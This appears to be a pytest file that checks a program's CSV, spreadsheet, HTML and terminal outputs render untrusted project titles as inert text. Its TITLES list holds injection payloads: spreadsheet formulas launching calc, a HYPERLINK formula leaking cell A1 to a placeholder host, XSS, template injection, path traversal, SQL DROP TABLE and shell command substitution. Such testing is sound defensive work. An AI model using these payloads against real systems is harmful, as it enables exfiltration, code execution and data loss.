"""Strangers' text in titles: every output shows it as text, unchanged, and nothing computes."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
import xlsxwriter

from tests.operation import strangers
from tests.operation.strangers import Carried, carried_out, harmless, lay_out, lost_in, told_of

TITLES = (
    # Formulas, plain, disguised, and in full width.
    '=HYPERLINK("http://example.invalid/?"&A1,"点此查看")',
    "@MAX(1,2)*calc|'/C calc'!A1",
    "+3+calc|' /C calc'!A1",
    "-5+3|' /C notepad'!'A1'",
    "\t=2*3",
    "=1+1\n=2+2",
    "＝SUM(A1:A9)",
    "'=已经带撇号",
    "''-两个撇号",
    "－２０22年规划平台",
    # Markup, scripts and templates.
    "<script>document.title='x'</script>",
    '"><img src=x onerror=alert(1)>',
    "</title></style></textarea><svg onload=alert(1)>",
    "<!-- <b>未闭合",
    "]]><x xmlns:y='z'/>",
    "&lt;已转义&gt; &#x3c; &amp;amp;",
    "javascript:alert(1)",
    "{{ 7*7 }} {% raw %} ${7*7} #{7*7} {0} %s %(x)d %n",
    "{{cycler.__init__.__globals__}}",
    "<w:p>段落</w:p>",
    # Places, queries and commands.
    "../../../../etc/passwd%00.csv",
    "C:\\Windows\\CON.txt",
    "https://example.invalid/a?b=c#d",
    "mailto:nobody@example.invalid",
    "internal:Sheet1!A1",
    "'; DROP TABLE projects; --",
    "`touch /tmp/x` $(touch /tmp/x)",
    # Words that other programs take for something else.
    "NULL",
    "1E5",
    "00123",
    "1/2",
    "TRUE",
    "NaN",
    "#REF!",
    # Signs that are hard to show, to fold or to encode.
    "\u202e反向书写\u202c名称",
    "零\u200b宽\ufeff空\u2060白",
    "e\u0301组\u0301合字\u0323",
    "𠀀𪚥生僻字与👩‍💻👨‍👩‍👧‍👦表情",
    "شعار عربي مختلط 中文",
    "_x0041_不是转义",
    "\x1b[31m红色\x1b[0m\x07响铃",
    "第一行\r\n第二行\u2028第三行",
    "\ufffe\uffff非字符",
    "很长" * 600,
    # Nothing that is seen.
    "\u200b\u3000\xa0",
    "\x01\x02",
)


@pytest.fixture(scope="module")
def both(tmp_path_factory: pytest.TempPathFactory) -> tuple[Carried, Carried]:
    """The round with these titles, and its harmless twin."""
    folder = tmp_path_factory.mktemp("strangers")
    lay_out(folder / "naughty", TITLES)
    lay_out(folder / "harmless", harmless(TITLES))
    return carried_out(folder / "naughty"), carried_out(folder / "harmless")


def test_every_title_survives_into_every_output(both: tuple[Carried, Carried]) -> None:
    assert list(lost_in(*both, TITLES)) == []
    rows = strangers.rows_of(both[0].files["recommendation.csv"])
    assert len(rows) == len(TITLES) - 2


def test_nothing_computes_and_no_element_is_added(both: tuple[Carried, Carried]) -> None:
    assert list(told_of(*both)) == []


def test_every_title_is_one_event_on_the_terminal(both: tuple[Carried, Carried]) -> None:
    naughty, twin = both
    assert len(naughty.terminal.splitlines()) == len(twin.terminal.splitlines())


def test_what_should_not_be_is_told(both: tuple[Carried, Carried]) -> None:
    """The comparison itself: a formula, a link, an element, a lost title and a sign are seen."""
    naughty, twin = both
    title = TITLES[0]
    lists = naughty.files["recommendation.csv"].decode("utf-8")
    live = lists.replace("'@MAX", "@MAX").encode("utf-8")
    cut = csv_without(lists, title).encode("utf-8")
    computing, linking = workbook(formula="=1+1"), workbook(link="https://example.invalid")
    page = b"<html><body><p>%s</p></body></html>"
    for name, ours, theirs, told in (
        ("recommendation.csv", live, b"", "a live formula"),
        ("x.xlsx", computing, computing, "A1 computes or links"),
        ("x.xlsx", linking, linking, "A1 computes or links"),
        ("x.xlsx", computing, workbook(), "sheet1.xml has other elements than its twin's"),
        ("x.html", page % b"<b>x</b>", page % b"&lt;b&gt;", "is not its twin's"),
        ("x.html", page % b"<svg onload=a()>", page % b"<svg>", "is not its twin's"),
    ):
        found = list(told_of(Carried({name: ours}, ""), Carried({name: theirs}, "")))
        assert [line for line in found if told in line], told
    assert list(told_of(Carried({}, "\x1b[31m"), Carried({}, ""))) == [
        "the terminal was sent '\\x1b'"
    ]
    spoilt = Carried({**naughty.files, "recommendation.csv": cut}, "")
    assert list(lost_in(spoilt, twin, TITLES)) == [("recommendation.csv", title)]


def csv_without(text: str, title: str) -> str:
    """A published table with a title cut short by one sign."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cut = io.StringIO(newline="")
    shortened = ([cell.replace(f"'{title}", f"'{title[:-1]}") for cell in row] for row in rows)
    csv.writer(cut, lineterminator="\r\n").writerows(shortened)
    return cut.getvalue()


def workbook(formula: str = "", link: str = "") -> bytes:
    """A workbook of one cell."""
    held = io.BytesIO()
    with xlsxwriter.Workbook(held) as book:
        sheet = book.add_worksheet("x")
        if formula:
            sheet.write_formula("A1", formula)
        elif link:
            sheet.write_url("A1", link)
        else:
            sheet.write_string("A1", "=1+1")
    return held.getvalue()


def test_strings_of_a_list_keep_all_but_its_line_ends(tmp_path: Path) -> None:
    listed = "#\ta heading\n\n a \n\x0b\x85\u2028\n=1\r\n"
    assert strangers.strings_of(listed.encode()) == [" a ", "\x0b\x85\u2028", "=1\r"]
